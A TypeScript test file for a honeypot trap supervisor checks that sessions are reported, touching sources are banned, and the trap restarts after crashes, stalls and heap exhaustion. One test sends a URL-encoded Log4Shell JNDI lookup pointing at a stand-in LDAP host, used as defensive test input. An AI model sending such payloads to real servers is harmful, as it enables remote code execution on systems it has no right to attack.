/** The trap process as the daemon runs it, and what becomes of the daemon when it crashes or stalls: nothing. */
import { connect, type Socket } from 'node:net';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import type { Address, Prefix } from '@honeymesh/intel/address';
import { unixMs } from '@honeymesh/intel/time';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { addon, mustHave } from '#enforcer/kernel/native.ts';
import { createTrapDesk } from '#enforcer/pipeline/trap-desk.ts';
import { makeIdentity } from '#enforcer/traps/identity-making.ts';
import type { TrapIdentity, TrapObservation } from '#enforcer/traps/messages.ts';
import { createTrapSupervisor, type TrapSupervisor } from '#enforcer/traps/supervisor.ts';
import { createRig, touchOf } from '#test/support/pipeline.ts';
import { ending, eventually, hears } from '#test/support/trap-live.ts';

const ENTRY = fileURLToPath(new URL('../support/trap-faulty-entry.ts', import.meta.url));

let identity: TrapIdentity;
let listener: { readonly fd: number; readonly port: number };
beforeAll(async () => {
  identity = await makeIdentity(unixMs(Date.now()));
  // Its port is known for nothing: what is said is judged as it comes.
  listener = mustHave(addon().trapListener(false, 0, 0, 1024), 'HM_TRAP_LISTEN', 'test');
});
afterAll(() => void addon().closeFd(listener.fd));

let supervisor: TrapSupervisor;
let seen: TrapObservation[];
let faults: string[];
let downs: [why: string, againInMs: number][];
let ups: number;
let rig: ReturnType<typeof createRig>;
let desk: ReturnType<typeof createTrapDesk>;

beforeEach(async () => {
  [seen, faults, downs, ups] = [[], [], [], 0];
  rig = createRig();
  desk = createTrapDesk({ mode: 'enforce', patience: 'instant', sessions: 3 }, rig);
  supervisor = createTrapSupervisor(
    {
      ports: { tcp: [listener.port], udp: [] },
      listeners: { port: listener.port, mark: 0, ipv4: listener.fd, ipv6: null, udpPort: 0, udp4: null, udp6: null },
      pins: '/nowhere',
      identity,
      entry: ENTRY,
    },
    {
      onObservations(observations, lost) {
        seen.push(...observations);
        // Loopback is never banned: to the daemon these are others.
        const elsewhere = observations.map(one => ({ ...one, at: rig.now(), source: one.source.replace(/^127/, '100') as Address }));
        desk.take(elsewhere, lost);
      },
      onDown(why, againInMs) {
        downs.push([why, againInMs]);
        desk.down(why, againInMs);
      },
      onUp() {
        ups++;
        desk.up();
      },
      onFault: why => void faults.push(why),
    },
  );
  supervisor.start();
  await eventually('it listens', () => ups === 1, 15_000);
});
afterEach(() => supervisor.stop());

function client(from: string): Socket {
  const socket = connect({ port: listener.port, host: '127.0.0.1', localAddress: from });
  socket.on('error', () => {});
  return socket;
}

async function says(from: string, words: string): Promise<Socket> {
  const socket = client(from);
  await new Promise(resolve => socket.once('connect', resolve));
  socket.write(words);
  return socket;
}

const kindsOf = (source: string): string[] => seen.filter(one => one.source === source).map(({ kind }) => kind);
const isBanned = (target: string): boolean => rig.kernel.listBans().some(ban => ban.target === target);

describe('a trap process', () => {
  test('tells a touch, what was said, and the whole session', async () => {
    const socket = await says('127.1.0.1', 'GET /?x=%24%7Bjndi:ldap://x/a%7D HTTP/1.0\r\n\r\n');
    await hears(socket, /^HTTP\/1\.1 /);
    await eventually('all was told', () => kindsOf('127.1.0.1').includes('ended'));
    expect(kindsOf('127.1.0.1')).toEqual(['touch', 'content', 'ended']);
    expect(isBanned('100.1.0.1/32')).toBe(true);
  });

  test('ends the sessions of a source that is banned', async () => {
    const socket = await says('127.1.0.2', '');
    await eventually('the touch was told', () => kindsOf('127.1.0.2').includes('touch'));
    const end = ending(socket);
    supervisor.closeSource('127.1.0.2/32' as Prefix);
    expect(await end).toBe('ECONNRESET');
    await eventually('the end was told', () => kindsOf('127.1.0.2').includes('ended'));
  });

  test('that is asked to end tells what its open sessions were', async () => {
    await says('127.1.0.3', 'half a line');
    await eventually('the touch was told', () => kindsOf('127.1.0.3').includes('touch'));
    await sleep(50);
    await supervisor.stop();
    expect(seen.find(one => one.kind === 'ended' && one.source === '127.1.0.3')).toMatchObject({ receipt: { end: 'stopped', receivedBytes: 11 } });
    expect(downs).toEqual([]);
  });

  test('survives a mistake in one session', async () => {
    await says('127.1.0.4', 'THROW\r\n');
    await eventually('it was told', () => faults.length === 1);
    expect(faults).toEqual(['thrown in a session']);
    const socket = await says('127.1.0.5', 'GET / HTTP/1.0\r\n\r\n');
    await hears(socket, /^HTTP\/1\.1 /);
    expect(downs).toEqual([]);
  });
});

describe('one that', () => {
  test.each([
    ['crashes', 'CRASH', /^the trap process ended with SIGABRT$/],
    ['throws where nobody catches', 'LATER', /^thrown where nobody catches$/],
  ])('%s is started again, later each time; who touched it is banned all the same', async (_, words, why) => {
    await says('127.2.0.1', `${words}\r\n`);
    await eventually('it is down', () => downs.length === 1);
    expect(downs[0]?.[0]).toMatch(why);
    expect(downs[0]?.[1]).toBe(250);
    expect(desk.counts().restarts).toBe(1);
    expect(rig.complaints).toMatchObject([{ part: 'traps' }]);
    expect(isBanned('100.2.0.1/32')).toBe(true);
    expect(supervisor.status()).toMatchObject({ running: false, sessions: 0 });
    await eventually('it is up again', () => ups === 2, 15_000);
    expect(rig.degraded.current()).toEqual([]);
    const socket = await says('127.2.0.2', 'GET / HTTP/1.0\r\n\r\n');
    await hears(socket, /^HTTP\/1\.1 /);
    await says('127.2.0.3', `${words}\r\n`);
    await eventually('it is down again', () => downs.length === 2);
    expect(downs[1]?.[1]).toBe(500);
  });

  test('stalls is killed after five seconds and started again; enforcement does not wait for it', async () => {
    await says('127.3.0.1', 'STALL\r\n');
    await eventually('the touch was told', () => isBanned('100.3.0.1/32'));
    const delay = monitorEventLoopDelay({ resolution: 1 });
    delay.enable();
    let slowestMs = 0;
    for (let at = 0; downs.length === 0; at++) {
      const startedMs = performance.now();
      rig.pipeline.sight(touchOf(`10.9.${at >> 8}.${at & 255}`, rig.now()));
      supervisor.closeSource('127.3.0.1/32' as Prefix);
      slowestMs = Math.max(slowestMs, performance.now() - startedMs);
      await sleep(20);
    }
    delay.disable();
    expect(downs).toEqual([['the trap process said nothing for 5 s', 250]]);
    expect(slowestMs).toBeLessThan(50);
    expect(delay.percentile(50) / 1e6).toBeLessThan(10);
    expect(rig.kernel.listBans().length).toBeGreaterThan(100);
    await eventually('it is up again', () => ups === 2, 15_000);
    const socket = await says('127.3.0.2', 'GET / HTTP/1.0\r\n\r\n');
    await hears(socket, /^HTTP\/1\.1 /);
  });

  test('eats all of its heap ends by itself, and is started again', async () => {
    await says('127.4.0.1', `HEAP${'x'.repeat(2_000)}\r\n`);
    await eventually('it is down', () => downs.length === 1, 20_000);
    expect(downs[0]?.[0]).toMatch(/^the trap process (?:ended with SIG|said nothing)/);
    await eventually('it is up again', () => ups === 2, 15_000);
  });
});
